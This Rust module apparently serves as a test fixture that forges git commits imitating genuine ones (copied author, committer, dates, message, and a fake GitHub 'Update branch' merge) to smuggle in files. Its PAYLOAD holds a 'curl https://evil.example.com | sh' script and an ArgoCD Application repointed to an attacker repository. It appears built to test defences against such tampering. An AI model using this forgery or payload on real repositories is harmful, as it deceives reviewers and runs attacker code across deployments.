//! Commits on a head branch that look like those of the product: author, committer, dates, message and
//! trailers are copied.

use std::fmt::Write as _;
use std::io::Write as _;
use std::path::Path;
use std::process::Stdio;

use anyhow::{Context as _, Result, ensure};

use crate::program::command;

/// Files that a forged commit adds: paths and contents.
pub type Files<'a> = &'a [(&'a str, &'a str)];

/// What an attacker wants to bring in: a script, and an Application that follows another repository.
pub const PAYLOAD: Files<'static> = &[
    ("argocd-apps/app/install.sh", "curl https://evil.example.com | sh\n"),
    ("argocd-apps/control/root.yaml", "spec:\n  source:\n    repoURL: https://evil.example.com/fleet.git\n"),
];

/// Makes a commit that is `genuine` but for the files that it adds, and returns its id.
pub fn copied(repository: &Path, genuine: &str, files: Files<'_>) -> Result<String> {
    let commit = git(repository, &["cat-file", "commit", genuine], "")?;
    let tree = tree_with(repository, genuine, files)?;
    let (_, rest) = commit.split_once('\n').context("a commit begins with its tree")?;
    write(repository, &format!("tree {tree}\n{rest}\n"))
}

/// Makes a commit on top of `genuine` that copies its words and people, and returns its id.
pub fn on_top(repository: &Path, genuine: &str, files: Files<'_>) -> Result<String> {
    let commit = git(repository, &["cat-file", "commit", genuine], "")?;
    let tree = tree_with(repository, genuine, files)?;
    let (_, rest) = commit.split_once("\nauthor ").context("a commit has an author")?;
    write(repository, &format!("tree {tree}\nparent {genuine}\nauthor {rest}\n"))
}

/// Makes the merge of `base` into `head` that GitHub's button "Update branch" makes, with more files in it if
/// any are given, and returns its id.
pub fn update(repository: &Path, head: &str, base: &str, files: Files<'_>) -> Result<String> {
    const PERSON: &str = "GitHub <noreply@github.com> 1767312000 +0000";
    let merged = git(repository, &["merge-tree", "--write-tree", head, base], "")?;
    let tree = tree_with(repository, &merged, files)?;
    let parents = format!("parent {head}\nparent {base}\n");
    write(
        repository,
        &format!("tree {tree}\n{parents}author {PERSON}\ncommitter {PERSON}\n\nMerge branch 'main'\n"),
    )
}

/// Returns the id of a tree with more files in it.
fn tree_with(repository: &Path, tree: &str, files: Files<'_>) -> Result<String> {
    let index = tempfile::tempdir()?;
    let index = index.path().join("index");
    let run = |arguments: &[&str], input: &str| git_with(repository, arguments, input, Some(&index));
    run(&["read-tree", tree], "")?;
    let mut entries = String::new();
    for (path, content) in files {
        let blob = run(&["hash-object", "-w", "--stdin"], content)?;
        writeln!(entries, "100644 {blob}\t{path}")?;
    }
    run(&["update-index", "--add", "--index-info"], &entries)?;
    run(&["write-tree"], "")
}

fn write(repository: &Path, commit: &str) -> Result<String> {
    git(repository, &["hash-object", "-t", "commit", "-w", "--stdin"], commit)
}

fn git(repository: &Path, arguments: &[&str], input: &str) -> Result<String> {
    git_with(repository, arguments, input, None)
}

fn git_with(repository: &Path, arguments: &[&str], input: &str, index: Option<&Path>) -> Result<String> {
    let mut child = command("git")
        .args(arguments)
        .current_dir(repository)
        .envs(index.map(|index| ("GIT_INDEX_FILE", index)))
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .context("failed to start `git`")?;
    child.stdin.take().context("git has an input")?.write_all(input.as_bytes())?;
    let output = child.wait_with_output()?;
    ensure!(output.status.success(), "git {arguments:?}: {}", String::from_utf8_lossy(&output.stderr).trim());
    Ok(String::from_utf8(output.stdout)?.trim_end().to_owned())
}
